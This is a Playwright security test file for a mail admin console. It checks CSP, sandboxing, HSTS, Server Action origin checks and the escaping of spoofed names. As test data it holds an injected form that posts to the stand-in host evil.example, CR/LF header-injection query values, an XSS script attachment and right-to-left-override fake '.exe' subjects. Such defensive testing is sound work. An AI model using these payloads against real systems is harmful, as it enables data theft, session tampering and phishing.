import { readFileSync } from 'node:fs';
import type postgres from 'postgres';
import type { APIResponse } from '@playwright/test';
import { recordScenario } from '../test/reliability/support/scenarios';
import { ADMIN } from './support/admin';
import { ensureSignedIn, resetConsole } from './support/console-state';
import { changedTables, openWorldDb, snapshotDb } from './support/db-snapshot';
import { rawRequest } from './support/raw-http';
import { SERVER_LOG } from './support/run-files';
import { callServerAction, serverActionIds } from './support/server-action';
import { expect, test } from './support/test';

// Issue 16, "Headers and responses": each test replays an attack found on a production build and checks the
// answer it gets now. Self-contained: it seeds its own (disabled) mailbox and message, and removes them.
test.describe.configure({ mode: 'serial' });
// A new console for this spec alone (support/console-state.ts), so it runs on its own and in any order.
test.beforeAll(resetConsole);

const GROUP = 'authorization';
const RLO = '\u202e';
// Shown as "Invoice exe.doc" when the override is obeyed.
const SUBJECT = `Invoice ${RLO}cod.exe`;
const FROM = `Billing ${RLO}gnp.exe <billing@fabrikam.test>`;
const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
const HTML = '<p id="hello">Hello from the body</p><img id="inline" src="cid:logo@headers.test" alt="inline logo">';

let sql: postgres.Sql;
let accountId = '';
let messageId = 0;
let fileId = 0;

test.beforeAll(async () => {
  sql = openWorldDb();
  const [account] = await sql<{ id: string }[]>`insert into mail_accounts
    (email_address, home_account_id, tenant_id, sign_in_address, imap_user, status)
    values ('responses@contoso.test', 'e2e-responses', 'e2e-responses', 'responses@contoso.test', 'responses@contoso.test', 'disabled')
    returning id`;
  accountId = account!.id;
  const [message] = await sql<{ id: string }[]>`insert into messages
    (account_id, folder, uidvalidity, uid, subject, from_address, to_addresses, internal_date, size, snippet, html, has_attachments)
    values (${accountId}, 'INBOX', 1, 1, ${SUBJECT}, ${FROM}, ${['alice@contoso.test']}, now(), 100, 'Hello', ${HTML}, true)
    returning id`;
  messageId = Number(message!.id);
  await sql`insert into message_sources (message_id, source, sha256) values (${messageId}, ${Buffer.from('Subject: x\r\n\r\nx')}, 'x')`;
  const attachment = async (filename: string, type: string, content: Buffer, contentId: string | null) =>
    (
      await sql<{ id: string }[]>`insert into attachments
        (message_id, filename, original_filename, content_type, size, content_id, inline, checksum, content)
        values (${messageId}, ${filename}, ${filename}, ${type}, ${content.length}, ${contentId}, ${contentId !== null}, 'x', ${content})
        returning id`
    )[0]!.id;
  fileId = Number(await attachment('notes.html', 'text/html', Buffer.from('<script>alert(1)</script>'), null));
  await attachment('logo.png', 'image/png', PIXEL, 'logo@headers.test');
});

test.afterAll(async () => {
  if (accountId) {
    await sql`delete from messages where account_id = ${accountId}`;
    await sql`delete from audit_events where account_id = ${accountId}`;
    await sql`delete from mail_accounts where id = ${accountId}`;
  }
  await sql?.end();
});

test.beforeEach(async ({ page }) => {
  await ensureSignedIn(page);
});

function policies(response: APIResponse): string[] {
  return response
    .headersArray()
    .filter((header) => header.name.toLowerCase() === 'content-security-policy')
    .map((header) => header.value);
}

const directivesOf = (policy: string) => policy.split(';').map((d) => d.trim());

test('@reliability every download route answers with its own CSP: default-src none and sandbox, nothing overriding it', async ({
  page,
  playwright,
  baseURL,
}) => {
  // The body frame's <img> carries the inline-image token (no session inside the sandboxed frame).
  const body = await (await page.request.get(`/api/v1/messages/${messageId}/body`)).text();
  const tokenUrl = /src="([^"]*token=[^"]*)"/.exec(body)?.[1]?.replace(/&amp;/g, '&');
  expect(tokenUrl, 'the body links its inline image by token').toBeTruthy();
  const anonymous = await playwright.request.newContext({ baseURL });
  const cases: Array<[string, () => Promise<APIResponse>, number]> = [
    ['source (.eml)', () => page.request.get(`/api/v1/messages/${messageId}/source`), 200],
    ['attachment', () => page.request.get(`/api/v1/messages/${messageId}/attachments/${fileId}`), 200],
    ['attachment inline', () => page.request.get(`/api/v1/messages/${messageId}/attachments/${fileId}?inline=1`), 200],
    ['inline image by token', () => anonymous.get(tokenUrl ?? ''), 200],
    ['unknown attachment', () => page.request.get(`/api/v1/messages/${messageId}/attachments/999999999`), 404],
    ['source without a session', () => anonymous.get(`/api/v1/messages/${messageId}/source`), 401],
    [
      'attachment opened without a session',
      () =>
        anonymous.get(`/api/v1/messages/${messageId}/attachments/${fileId}`, {
          headers: { 'sec-fetch-mode': 'navigate' },
          maxRedirects: 0,
        }),
      303,
    ],
  ];
  try {
    for (const [what, fetch, status] of cases) {
      const response = await fetch();
      expect(response.status(), what).toBe(status);
      const sent = policies(response);
      expect(sent, `${what}: one CSP header`).toHaveLength(1);
      const directives = directivesOf(sent[0] ?? '');
      expect(directives, what).toContain("default-src 'none'");
      expect(directives, what).toContain('sandbox');
      expect(directives, what).toContain("frame-ancestors 'none'");
      expect(response.headers()['x-content-type-options'], what).toBe('nosniff');
    }
  } finally {
    await anonymous.dispose();
  }
  await recordScenario({
    group: GROUP,
    scenario: 'downloads: their own sandbox CSP survives next.config.ts',
    expected: cases.length,
    stored: 0,
    lost: 0,
    duplicated: 0,
    note: "default-src 'none'; sandbox on source, attachment, inline, token image, 401/303/404",
  });
});

test('@reliability the message body opened on its own runs in an opaque origin, and still renders in its frame', async ({
  page,
}) => {
  const response = await page.goto(`/api/v1/messages/${messageId}/body`);
  expect(directivesOf(response?.headers()['content-security-policy'] ?? '')).toContain(
    'sandbox allow-popups allow-popups-to-escape-sandbox',
  );
  await expect(page.locator('#hello')).toHaveText('Hello from the body');
  // A sandboxed document without allow-same-origin has an opaque origin: nothing of the console's is its own.
  expect(await page.evaluate(() => self.origin)).toBe('null');
  expect(
    await page.evaluate(() => {
      try {
        return typeof localStorage;
      } catch {
        return 'refused';
      }
    }),
  ).toBe('refused');

  await page.goto(`/messages/${messageId}`);
  const frame = page.frameLocator('iframe[title="Message body"]');
  await expect(frame.locator('#hello')).toHaveText('Hello from the body');
  await expect
    .poll(() => frame.locator('#inline').evaluate((img: HTMLImageElement) => img.naturalWidth))
    .toBeGreaterThan(0);
});

test('@reliability HSTS is sent when served over https, never over plain http', async ({ page, baseURL }) => {
  const html = await (await page.request.get('/sign-in')).text();
  const script = /src="(\/_next\/static\/[^"]+\.js)"/.exec(html)?.[1] ?? '';
  let checked = 0;
  for (const path of ['/sign-in', '/messages', '/api/health', `/api/v1/messages/${messageId}/source`, script]) {
    const overHttps = await rawRequest(baseURL ?? '', { target: path, headers: [['X-Forwarded-Proto', 'https']] });
    expect(overHttps.headers['strict-transport-security'], `${path} over https`).toBe(
      'max-age=63072000; includeSubDomains',
    );
    const overHttp = await rawRequest(baseURL ?? '', { target: path });
    expect(overHttp.headers['strict-transport-security'], `${path} over http`).toBeUndefined();
    checked += 2;
  }
  await recordScenario({
    group: GROUP,
    scenario: 'HSTS over https only',
    expected: checked,
    stored: 0,
    lost: 0,
    duplicated: 0,
    note: 'max-age two years with subdomains behind X-Forwarded-Proto: https; none over http',
  });
});

test('@reliability a form injected into a console page cannot post anywhere else', async ({ page }) => {
  await page.addInitScript(() => {
    const probe = window as unknown as { violations: string[] };
    probe.violations = [];
    document.addEventListener('securitypolicyviolation', (event) => probe.violations.push(event.effectiveDirective));
  });
  const response = await page.goto('/messages');
  const directives = directivesOf(response?.headers()['content-security-policy'] ?? '');
  expect(directives).toContain("default-src 'self'");
  expect(directives).toContain("form-action 'self'");
  const evilRequests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('evil.example')) evilRequests.push(request.url());
  });
  await page.evaluate(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://evil.example/collect';
    document.body.append(form);
    form.submit();
  });
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { violations: string[] }).violations))
    .toContain('form-action');
  expect(evilRequests).toEqual([]);
  // The refused submission leaves the page where it was.
  expect(new URL(page.url()).pathname).toBe('/messages');
});

test('@reliability foreign, oversized and unmeasured Server Actions and CR/LF return paths get a 4xx, not a 500', async ({
  page,
  baseURL,
}) => {
  const origin = baseURL ?? '';
  const action = serverActionIds().get('setAccountEnabledAction') ?? '';
  const path = `/channels/microsoft365/accounts/${accountId}`;
  const enable: Array<readonly [string, string]> = [
    ['accountId', accountId],
    ['enabled', 'true'],
  ];
  const before = await snapshotDb(sql);
  const answers: Array<[string, number, number]> = [];
  const post = async (what: string, expected: number, headers: Record<string, string>, fields = enable) => {
    const answer = await callServerAction(page.request, path, action, fields, headers);
    answers.push([what, answer.status, expected]);
  };
  await post('foreign Origin', 403, { origin: 'https://evil.example' });
  await post('Origin null (sandboxed frame)', 403, { origin: 'null' });
  await post('2 MB body', 413, { origin }, [...enable, ['padding', 'x'.repeat(2 * 1024 * 1024)]]);
  const chunked = await rawRequest(origin, {
    method: 'POST',
    target: path,
    headers: [
      ['Next-Action', action],
      ['Origin', origin],
      ['Content-Type', 'text/plain;charset=UTF-8'],
      ['Transfer-Encoding', 'chunked'],
      ['Cookie', (await page.context().cookies()).map((c) => `${c.name}=${c.value}`).join('; ')],
    ],
    body: '2\r\n[]\r\n0\r\n\r\n',
  });
  answers.push(['chunked body without Content-Length', chunked.status, 411]);

  const anonymous = (target: string, method = 'GET', body?: string) =>
    rawRequest(origin, {
      method,
      target,
      headers: body
        ? [
            ['Content-Type', 'application/x-www-form-urlencoded'],
            ['Content-Length', String(Buffer.byteLength(body))],
            ['Origin', origin],
          ]
        : [],
      body,
    }).then((r) => r.status);
  answers.push(['sign-in ?next= with CR/LF', await anonymous('/sign-in?next=%2Fmessages%0D%0ASet-Cookie:%20a=b'), 400]);
  answers.push(['page ?next= with CR/LF', await anonymous('/messages?next=%0D%0A'), 400]);
  answers.push([
    'Auth.js ?callbackUrl= with CR/LF',
    await anonymous('/api/auth/callback/credentials?callbackUrl=%0D%0A', 'POST', 'email=a%40b.test&password=x'),
    400,
  ]);
  answers.push([
    'Auth.js callbackUrl field with CR/LF',
    await anonymous('/api/auth/callback/credentials', 'POST', 'email=a%40b.test&password=x&callbackUrl=%2F%0D%0AX%3A1'),
    400,
  ]);
  const [account] = await sql<{ status: string }[]>`select status from mail_accounts where id = ${accountId}`;
  expect(account?.status, 'no refused action enabled the mailbox').toBe('disabled');
  const changed = changedTables(before, await snapshotDb(sql));
  // Control: the same action from the console itself still runs (it only disables an already disabled mailbox).
  await post('same origin (control)', 200, { origin }, [
    ['accountId', accountId],
    ['enabled', 'false'],
  ]);
  for (const [what, status, expected] of answers) expect(status, what).toBe(expected);
  expect(changed).toEqual([]);
  await recordScenario({
    group: 'hostile input',
    scenario: 'Server Actions from another origin / over 1 MB / chunked, CR LF in next and callbackUrl',
    expected: answers.length,
    stored: answers.filter(([, status, expected]) => status !== expected).length,
    lost: 0,
    duplicated: 0,
    note: answers.map(([what, status]) => `${what}: ${status}`).join('; '),
  });
});

test('@reliability a wrong password is one warn line in the server log, not an error with a stack', async ({
  browser,
  baseURL,
}) => {
  const logged = () => readFileSync(SERVER_LOG, 'utf8');
  const start = logged().length;
  const context = await browser.newContext({ baseURL });
  try {
    const page = await context.newPage();
    await page.goto('/sign-in');
    await page.getByLabel('E-mail').fill(ADMIN.email);
    await page.getByLabel('Password').fill('not the password at all');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await expect(page.getByText('That e-mail and password do not match an administrator.')).toBeVisible();
  } finally {
    await context.close();
  }
  await expect.poll(() => logged().slice(start)).toContain('sign_in_refused');
  const lines = logged().slice(start).split('\n').filter(Boolean);
  const refusals = lines.filter((line) => line.includes('sign_in_refused'));
  expect(refusals).toHaveLength(1);
  const refusal = JSON.parse(refusals[0] ?? '{}') as Record<string, unknown>;
  expect(refusal).toMatchObject({ level: 40, scope: 'auth', reason: 'credentials', msg: 'sign-in refused' });
  expect(refusals[0]).not.toContain('not the password');
  expect(lines.filter((line) => /"level":50|CredentialsSignin|\n\s+at /.test(line))).toEqual([]);
});

test('@reliability bidi overrides and controls in From and Subject are shown escaped, never obeyed', async ({
  page,
}) => {
  await page.goto(`/messages?q=${encodeURIComponent('Invoice')}`);
  const row = page.getByRole('row', { name: /Invoice \[U\+202E\]cod\.exe/ });
  await expect(row).toBeVisible();
  await expect(row.getByText('Billing [U+202E]gnp.exe <billing@fabrikam.test>')).toBeVisible();
  expect(await page.locator('main').innerText()).not.toContain(RLO);

  await page.goto(`/messages/${messageId}`);
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Invoice [U+202E]cod.exe');
  await expect(page.getByText('Billing [U+202E]gnp.exe <billing@fabrikam.test>')).toBeVisible();
  expect(await page.title()).toContain('Invoice [U+202E]cod.exe');
  expect(await page.locator('main').innerText()).not.toContain(RLO);
  const frameTitle = await page.frameLocator('iframe[title="Message body"]').locator('title').textContent();
  expect(frameTitle).toBe('Invoice [U+202E]cod.exe');
});
